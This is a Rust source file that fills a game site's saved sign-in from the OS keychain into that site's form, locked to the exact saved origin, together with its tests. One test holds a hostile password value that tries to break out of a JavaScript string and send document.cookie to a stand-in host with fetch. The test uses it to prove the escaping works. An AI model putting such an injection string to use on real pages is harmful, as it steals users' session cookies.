//! Filling a web account's saved sign-in into its site's form, when the player asks (issue 19, item 7; I13).
//!
//! The username and password live in the OS keychain under the web account ([`kage_core::vault::site`]). They
//! reach a page only through [`fill`], which runs only when the player asks, in Kage: the account's "Fill
//! sign-in" button in the accounts panel, or Ctrl+Shift+L pressed in the account's window (read by Rust on the
//! GTK widget before the page sees the key). A web page has no IPC at all (see `web/mod.rs`), so no script of a
//! page can start a fill.
//!
//! Three locks, each on its own enough to keep the secret from a page it is not for:
//! - the account comes from the window's label, looked up in Rust ([`super::WebState::account_of`]): another
//!   account's window reads another account's entry (none, or its own);
//! - the webview's current URL must be exactly the saved origin ([`may_fill`]), checked in Rust before the
//!   keychain is read;
//! - the script re-checks `location.origin` before touching anything ([`fill_script`]), so a navigation between
//!   the check and the script fills nothing. It runs in the top frame only: an embedded frame of another
//!   origin is never reached.
//!
//! The script writes only the form's password field and that form's username or email field, through the
//! native value setter with `input` and `change` events (so the site's framework sees typed values); it does
//! not submit.

use std::time::Duration;

use kage_core::vault::{SiteSignIn, VaultError};
use kage_core::{ExposeSecret, SecretString};
use tauri::{AppHandle, Manager, Runtime, Url, WebviewWindow};

use crate::state::AppState;

/// How long a fill waits for the keychain (an unlock prompt) and then for the page's answer.
const KEYCHAIN_WAIT: Duration = Duration::from_secs(20);
const PAGE_WAIT: Duration = Duration::from_secs(10);

/// Whether a sign-in saved for `saved_origin` may be filled into a page at `current`: http(s), and exactly that
/// origin (scheme, host and port).
pub fn may_fill(saved_origin: &str, current: &Url) -> bool {
    matches!(current.scheme(), "http" | "https") && current.origin().ascii_serialization() == saved_origin
}

/// What a fill did, as the player is told it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FillError {
    #[error("That window is not a browser game's window.")]
    NotAWebWindow,
    #[error("This account has no open window; open it first.")]
    NoWindow,
    #[error("No sign-in is saved for this account on this computer.")]
    NothingSaved,
    #[error("This window is not on {0}, the site the sign-in was saved for, so Kage filled nothing.")]
    WrongOrigin(String),
    #[error("Kage found no sign-in form (no password field) on this page.")]
    NoForm,
    #[error("{0}")]
    Keychain(&'static str),
    #[error("The page did not answer: {0}.")]
    Page(String),
}

/// What the script answered when it filled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Filled {
    /// The username and the password fields.
    Both,
    /// A password field with no username field in its form (a second step of a sign-in).
    PasswordOnly,
}

impl Filled {
    pub fn sentence(self) -> &'static str {
        match self {
            Self::Both => "Kage filled the sign-in form; press the site's own button to sign in.",
            Self::PasswordOnly => "Kage filled the password field; press the site's own button to sign in.",
        }
    }
}

/// Fills the sign-in of the account shown in web window `label` into its page. The one function every way a
/// player asks for a fill calls.
pub async fn fill<R: Runtime>(app: &AppHandle<R>, label: &str) -> Result<Filled, FillError> {
    let state = app.state::<AppState>();
    let account_id = state.web.account_of(label).ok_or(FillError::NotAWebWindow)?;
    let account = state.roster.web_account(&account_id).ok_or(FillError::NotAWebWindow)?;
    let window = app.get_webview_window(label).ok_or(FillError::NoWindow)?;
    let saved_origin = account.sign_in_origin.ok_or(FillError::NothingSaved)?;
    check_origin(&window, &saved_origin)?;
    let sign_in = read(app, &account_id).await?.ok_or(FillError::NothingSaved)?;
    // The roster's note and the keychain's record must agree: the record's origin is the one filled.
    if sign_in.origin != saved_origin {
        return Err(FillError::WrongOrigin(sign_in.origin));
    }
    // Again after the keychain's wait (an unlock prompt can take a while): the page may have moved on.
    check_origin(&window, &sign_in.origin)?;
    let answer = run(&window, fill_script(&sign_in)).await?;
    match answer.as_str() {
        "filled" => Ok(Filled::Both),
        "filled-password" => Ok(Filled::PasswordOnly),
        "no-form" => Err(FillError::NoForm),
        "wrong-origin" => Err(FillError::WrongOrigin(sign_in.origin)),
        other => Err(FillError::Page(format!("unexpected answer {other:?}"))),
    }
}

/// The first open window of `account_id` (the panel's button fills that one; Ctrl+Shift+L fills the window it
/// is pressed in).
pub fn first_window<R: Runtime>(app: &AppHandle<R>, account_id: &str) -> Result<String, FillError> {
    let state = app.state::<AppState>();
    state
        .web
        .windows_of(account_id)
        .into_iter()
        .find(|label| app.get_webview_window(label).is_some())
        .ok_or(FillError::NoWindow)
}

fn check_origin<R: Runtime>(window: &WebviewWindow<R>, saved_origin: &str) -> Result<(), FillError> {
    let current = window.url().map_err(|error| FillError::Page(error.to_string()))?;
    if may_fill(saved_origin, &current) { Ok(()) } else { Err(FillError::WrongOrigin(saved_origin.to_owned())) }
}

/// The account's saved sign-in, read off the async runtime and bounded (an unlock prompt nobody answers).
pub async fn read<R: Runtime>(app: &AppHandle<R>, account_id: &str) -> Result<Option<SiteSignIn>, FillError> {
    let store = app.state::<AppState>().sign_ins.clone();
    let owner = account_id.to_owned();
    let read = tokio::task::spawn_blocking(move || store.read_site(&owner));
    match tokio::time::timeout(KEYCHAIN_WAIT, read).await {
        Ok(Ok(result)) => result.map_err(|error| FillError::Keychain(keychain_sentence(&error))),
        Ok(Err(_)) => Err(FillError::Keychain(keychain_sentence(&VaultError::Backend(String::new())))),
        Err(_) => Err(FillError::Keychain(keychain_sentence(&VaultError::TimedOut(KEYCHAIN_WAIT.as_secs())))),
    }
}

/// A keychain problem with saved web sign-ins, for the player: what happened, and that nothing was lost.
pub fn keychain_sentence(error: &VaultError) -> &'static str {
    match error {
        VaultError::Locked => "The system keychain is locked: unlock it and ask again. The saved sign-in is kept.",
        VaultError::Unavailable(_) | VaultError::TimedOut(_) => {
            "The system keychain is not available right now, so Kage cannot reach saved sign-ins. Nothing was lost; ask again later."
        }
        VaultError::Backend(_) => {
            "The system keychain reported an error, so the saved sign-in could not be used or changed. Nothing was lost."
        }
    }
}

/// The body of the async function run in the page's top frame: checks `location.origin`, then writes the
/// password field and its form's username field. The values are JSON string literals (never source text).
/// Answers `"wrong-origin"`, `"no-form"`, `"filled"` or `"filled-password"`.
pub fn fill_script(sign_in: &SiteSignIn) -> SecretString {
    let literal = |text: &str| serde_json::to_string(text).expect("a string serializes");
    let origin = literal(&sign_in.origin);
    let username = literal(&sign_in.username);
    let password = SecretString::from(literal(sign_in.password.expose_secret()));
    SecretString::from(format!(
        r#"if (location.origin !== {origin}) return "wrong-origin";
const usable = (el) => !el.disabled && !el.readOnly && el.getClientRects().length > 0;
const password = [...document.querySelectorAll('input[type="password"]')].find(usable);
if (!password) return "no-form";
let user = null;
if (password.form) {{
  const fields = [...password.form.elements].filter((el) => el instanceof HTMLInputElement && usable(el));
  const before = fields.slice(0, fields.indexOf(password)).filter((el) => ["text", "email"].includes(el.type));
  user = before.find((el) => /username|email/.test(el.autocomplete)) ?? before[before.length - 1] ?? null;
}}
const setValue = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value").set;
const put = (el, value) => {{
  setValue.call(el, value);
  el.dispatchEvent(new Event("input", {{ bubbles: true }}));
  el.dispatchEvent(new Event("change", {{ bubbles: true }}));
}};
if (user) put(user, {username});
put(password, {password});
password.focus();
return user ? "filled" : "filled-password";"#,
        password = password.expose_secret()
    ))
}

/// Runs the script in the window's top frame, in the page's world, and answers what it returned.
async fn run<R: Runtime>(window: &WebviewWindow<R>, script: SecretString) -> Result<String, FillError> {
    let (done, answer) = tokio::sync::oneshot::channel::<Result<String, String>>();
    window
        .with_webview(move |webview| super::script::run(webview, script.expose_secret(), done))
        .map_err(|error| FillError::Page(error.to_string()))?;
    match tokio::time::timeout(PAGE_WAIT, answer).await {
        Ok(Ok(Ok(answer))) => Ok(answer),
        Ok(Ok(Err(error))) => Err(FillError::Page(error)),
        _ => Err(FillError::Page("no answer".to_owned())),
    }
}

/// Ctrl+Shift+L in a web window asks for a fill: connected on the window's WebKit widget, so Kage reads the key
/// before the page does, and the page never sees it.
pub fn listen_for_key<R: Runtime>(window: &WebviewWindow<R>) {
    let (app, label) = (window.app_handle().clone(), window.label().to_owned());
    if let Err(error) = window.with_webview(move |webview| platform::listen(webview, app, label)) {
        log::warn!("the sign-in key is not available in a web window: {error}");
    }
}

/// The key's fill: its answer goes to the log and, when it did not fill, to the player as a notification
/// (the page is the site's: Kage has nowhere else in that window to say it).
#[cfg(target_os = "linux")]
fn on_key<R: Runtime>(app: AppHandle<R>, label: String) {
    tauri::async_runtime::spawn(async move {
        match fill(&app, &label).await {
            Ok(filled) => log::info!("a web sign-in was filled ({filled:?}) at the player's request"),
            Err(error) => {
                log::info!("a web sign-in fill did nothing: {error}");
                let state = app.state::<AppState>();
                let title = state.presenter().web_title(&state.web.account_of(&label).unwrap_or_default());
                let notice = crate::notify::Notice { title, body: error.to_string() };
                // Kage's own notification path (on Linux the freedesktop service; the plugin is not there).
                crate::notify::show_then(&app, notice, move |app, _token| app.get_webview_window(&label));
            }
        }
    });
}

#[cfg(target_os = "linux")]
mod platform {
    use tauri::{AppHandle, Runtime};

    pub(super) fn listen<R: Runtime>(webview: tauri::webview::PlatformWebview, app: AppHandle<R>, label: String) {
        use gtk::gdk::ModifierType;
        use gtk::prelude::WidgetExt;
        webview.inner().connect_key_press_event(move |_, event| {
            let wanted = ModifierType::CONTROL_MASK | ModifierType::SHIFT_MASK;
            let held = event.state() & (wanted | ModifierType::MOD1_MASK | ModifierType::SUPER_MASK);
            if held == wanted && event.keyval().to_lower() == gtk::gdk::keys::constants::l {
                super::on_key(app.clone(), label.clone());
                return gtk::glib::Propagation::Stop;
            }
            gtk::glib::Propagation::Proceed
        });
    }
}

#[cfg(not(target_os = "linux"))]
mod platform {
    use tauri::{AppHandle, Runtime};

    pub(super) fn listen<R: Runtime>(_webview: tauri::webview::PlatformWebview, _app: AppHandle<R>, _label: String) {}
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(text: &str) -> Url {
        Url::parse(text).unwrap()
    }

    #[test]
    fn i13_a_sign_in_is_filled_only_on_its_exact_origin() {
        let saved = "https://game.example";
        assert!(may_fill(saved, &url("https://game.example/login?next=/play")));
        assert!(may_fill(saved, &url("https://game.example:443/")), "the default port is the same origin");
        for other in [
            "http://game.example/",
            "https://game.example:8443/",
            "https://www.game.example/",
            "https://game.example.evil.example/",
            "https://evil.example/?https://game.example",
            "about:blank",
            "tauri://localhost/",
        ] {
            assert!(!may_fill(saved, &url(other)), "{other}");
        }
        assert!(!may_fill("http://127.0.0.1:8080", &url("http://localhost:8080/")), "loopback by another name");
    }

    fn sign_in(password: &str) -> SiteSignIn {
        SiteSignIn {
            origin: "https://game.example".into(),
            username: "main".into(),
            password: SecretString::from(password.to_owned()),
        }
    }

    #[test]
    fn i13_the_fill_script_checks_the_origin_before_it_touches_anything() {
        let script = fill_script(&sign_in("hunter2"));
        let script = script.expose_secret();
        let guard = r#"if (location.origin !== "https://game.example") return "wrong-origin";"#;
        assert!(script.starts_with(guard), "the first statement is the guard: {script}");
        assert_eq!(script.matches("hunter2").count(), 1, "the password appears once, after the guard");
        assert!(script.find("hunter2") > script.find("wrong-origin"));
        assert!(!script.contains(".submit(") && !script.contains("requestSubmit"), "it never submits");
        assert!(!script.contains("__TAURI"), "nothing of Kage in the page");
    }

    #[test]
    fn i13_the_fill_script_carries_values_as_string_literals_only() {
        let hostile = r#"x"; fetch("https://evil.example/?" + document.cookie); "</script>\u2028`${1}`"#;
        let script = fill_script(&sign_in(hostile));
        let script = script.expose_secret();
        let literal = serde_json::to_string(hostile).unwrap();
        assert!(script.contains(&format!("put(password, {literal});")), "{script}");
        assert!(!script.contains(r#"x"; fetch"#), "a quote in the password cannot end the literal");
    }

    /// The script's guard, run in a real JavaScript engine (node) when one is installed: on another origin it
    /// answers "wrong-origin" and writes nothing; on the saved origin it fills the form's fields only.
    #[test]
    fn i13_the_fill_script_fills_only_the_forms_fields_and_only_on_the_saved_origin() {
        let Ok(node) = which_node() else {
            eprintln!("node is not installed; the script's behaviour is checked by the end-to-end test");
            return;
        };
        let script = fill_script(&sign_in("hunter2"));
        let harness = format!(
            r#"
            const values = {{}};
            class HTMLInputElement {{
              constructor(name, type, form, autocomplete = "") {{ Object.assign(this, {{ name, type, form, autocomplete, disabled: false, readOnly: false }}); }}
              getClientRects() {{ return [1]; }}
              dispatchEvent(e) {{ (values[this.name + ":events"] ??= []).push(e.type); }}
              focus() {{}}
            }}
            Object.defineProperty(HTMLInputElement.prototype, "value", {{ set(v) {{ values[this.name] = v; }}, get() {{ return values[this.name]; }} }});
            globalThis.Event = class {{ constructor(type) {{ this.type = type; }} }};
            const form = {{ elements: [] }};
            const search = new HTMLInputElement("search", "text", null);
            const user = new HTMLInputElement("user", "text", form, "username");
            const pass = new HTMLInputElement("pass", "password", form);
            const other = new HTMLInputElement("other", "text", form);
            form.elements.push(user, pass, other);
            globalThis.document = {{ querySelectorAll: () => [pass] }};
            globalThis.HTMLInputElement = HTMLInputElement;
            const fill = async () => {{ {script} }};
            (async () => {{
              globalThis.location = {{ origin: "https://evil.example" }};
              const away = await fill();
              const untouched = JSON.stringify(values);
              globalThis.location = {{ origin: "https://game.example" }};
              const home = await fill();
              console.log(JSON.stringify({{ away, untouched, home, values }}));
            }})();"#,
            script = script.expose_secret()
        );
        let output = std::process::Command::new(node).arg("-e").arg(harness).output().unwrap();
        let text = String::from_utf8_lossy(&output.stdout);
        let answer: serde_json::Value = serde_json::from_str(text.trim()).unwrap_or_else(|_| {
            panic!("node said: {text} {}", String::from_utf8_lossy(&output.stderr));
        });
        assert_eq!(answer["away"], "wrong-origin");
        assert_eq!(answer["untouched"], "{}", "nothing written on another origin");
        assert_eq!(answer["home"], "filled");
        assert_eq!(answer["values"]["user"], "main");
        assert_eq!(answer["values"]["pass"], "hunter2");
        assert_eq!(answer["values"]["pass:events"], serde_json::json!(["input", "change"]));
        assert!(answer["values"].get("other").is_none() && answer["values"].get("search").is_none(), "{answer}");
    }

    #[test]
    fn a_locked_or_absent_keychain_is_one_sentence_that_says_nothing_was_lost() {
        let locked = keychain_sentence(&VaultError::Locked);
        assert!(locked.contains("locked") && locked.contains("kept"), "{locked}");
        for error in
            [VaultError::Unavailable("no bus".into()), VaultError::TimedOut(20), VaultError::Backend("x".into())]
        {
            let sentence = keychain_sentence(&error);
            assert!(sentence.ends_with('.') && sentence.contains("Nothing was lost"), "{sentence}");
        }
    }

    fn which_node() -> Result<std::path::PathBuf, ()> {
        std::env::var_os("PATH")
            .and_then(|path| std::env::split_paths(&path).map(|dir| dir.join("node")).find(|node| node.is_file()))
            .ok_or(())
    }
}
